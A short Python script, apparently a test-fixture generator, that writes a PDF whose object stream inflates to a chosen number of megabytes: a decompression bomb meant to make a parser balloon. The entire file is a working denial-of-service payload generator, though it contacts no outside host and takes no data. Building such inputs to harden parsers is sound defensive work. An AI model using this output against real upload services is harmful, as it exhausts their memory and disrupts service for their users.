#!/usr/bin/env python3
"""Writes a small PDF whose object stream inflates to a huge size (a decompression bomb), the kind of hostile
upload that makes a parser balloon. Hand-written on purpose: no legitimate tool writes one. usage: OUT MEGABYTES
"""
import sys
import zlib

path, megabytes = sys.argv[1], int(sys.argv[2])
header = b"1 0 "
payload = zlib.compressobj(9)
data = payload.compress(header + b"<< /Type /Catalog /Pages 2 0 R >>")
chunk = b" " * (1 << 20)
for _ in range(megabytes):
    data += payload.compress(chunk)
data += payload.flush()
objects = [
    None,  # 1 lives in the object stream
    b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
    b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]
out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
offsets = {}
for number, body in enumerate(objects, start=1):
    if body is None:
        continue
    offsets[number] = len(out)
    out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
xref = len(out)
out += b"xref\n0 5\n0000000000 65535 f \n0000000000 65535 f \n"
for number in (2, 3, 4):
    out += b"%010d 00000 n \n" % offsets[number]
out += b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref
open(path, "wb").write(out)
